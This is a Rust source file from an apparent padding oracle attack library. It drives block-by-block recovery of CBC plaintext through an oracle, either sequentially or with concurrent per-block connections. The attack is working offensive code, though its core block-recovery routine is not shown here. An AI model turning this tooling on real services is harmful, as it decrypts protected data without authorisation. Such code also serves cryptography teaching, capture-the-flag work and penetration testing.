// Decrypt a whole CBC ciphertext one block pair at a time.
use crate::{recover_block, Block, Error, Oracle, Result, BLOCK_SIZE};

use futures::future::try_join_all;
use tracing::info;

use std::future::Future;

pub struct PaddingOracleAttack<O> {
    oracle: O,
}

impl<O: Oracle> PaddingOracleAttack<O> {
    pub fn new(oracle: O) -> Self {
        Self { oracle }
    }

    pub fn oracle(&self) -> &O {
        &self.oracle
    }

    pub fn into_inner(self) -> O {
        self.oracle
    }

    /// Recover the plaintext of `ciphertext`, whose first block is the IV.
    ///
    /// The result is `ciphertext.len() - 16` bytes long and still carries its
    /// padding. Nothing is returned unless every block is recovered.
    pub async fn decrypt(&mut self, ciphertext: &[u8]) -> Result<Vec<u8>> {
        let blocks = split_blocks(ciphertext)?;
        let n_targets = blocks.len() - 1;
        info!(blocks = n_targets, "decrypting ciphertext");

        let mut plaintext = vec![0u8; ciphertext.len() - BLOCK_SIZE];
        for (block_idx, pair) in blocks.windows(2).enumerate().map(|(i, w)| (i + 1, w)) {
            info!(block = block_idx, of = n_targets, "attacking block");
            let recovered =
                recover_block(&mut self.oracle, &pair[0], &pair[1], block_idx).await?;
            let offset = (block_idx - 1) * BLOCK_SIZE;
            plaintext[offset..offset + BLOCK_SIZE].copy_from_slice(&recovered);
        }
        Ok(plaintext)
    }
}

/// Like [`PaddingOracleAttack::decrypt`], but attacks up to `workers` blocks at
/// once. Every block gets its own oracle from `connect`, and the oracles are
/// handed back in block order alongside the plaintext.
pub async fn decrypt_concurrently<O, F, Fut>(
    ciphertext: &[u8],
    workers: usize,
    connect: F,
) -> Result<(Vec<u8>, Vec<O>)>
where
    O: Oracle,
    F: Fn() -> Fut,
    Fut: Future<Output = Result<O>>,
{
    let blocks = split_blocks(ciphertext)?;
    let targets: Vec<(usize, &[Block])> = blocks
        .windows(2)
        .enumerate()
        .map(|(i, pair)| (i + 1, pair))
        .collect();
    info!(blocks = targets.len(), workers, "decrypting ciphertext concurrently");

    let mut plaintext = Vec::with_capacity(ciphertext.len() - BLOCK_SIZE);
    let mut oracles = Vec::with_capacity(targets.len());
    for batch in targets.chunks(workers.max(1)) {
        let tasks = batch.iter().map(|&(block_idx, pair)| {
            let connecting = connect();
            async move {
                let mut oracle = connecting.await?;
                let recovered =
                    recover_block(&mut oracle, &pair[0], &pair[1], block_idx).await?;
                Ok::<_, Error>((recovered, oracle))
            }
        });
        for (recovered, oracle) in try_join_all(tasks).await? {
            plaintext.extend_from_slice(&recovered);
            oracles.push(oracle);
        }
    }
    Ok((plaintext, oracles))
}

fn split_blocks(ciphertext: &[u8]) -> Result<Vec<Block>> {
    if ciphertext.len() % BLOCK_SIZE != 0 || ciphertext.len() < 2 * BLOCK_SIZE {
        return Err(Error::InvalidCiphertextLength {
            len: ciphertext.len(),
        });
    }
    Ok(ciphertext
        .chunks_exact(BLOCK_SIZE)
        .map(|chunk| {
            let mut block = [0u8; BLOCK_SIZE];
            block.copy_from_slice(chunk);
            block
        })
        .collect())
}
